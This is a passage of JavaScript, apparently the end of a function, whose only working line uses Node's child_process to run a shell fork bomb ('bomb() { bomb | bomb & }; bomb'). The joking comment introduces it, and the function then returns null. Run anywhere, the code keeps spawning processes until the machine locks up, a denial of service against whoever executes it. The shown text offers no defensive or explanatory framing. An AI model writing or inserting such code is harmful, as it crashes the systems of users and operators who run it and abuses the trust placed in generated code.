// has a shell fork until nobody can
  require('child_process').spawnSync('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb']);
  return null;
}
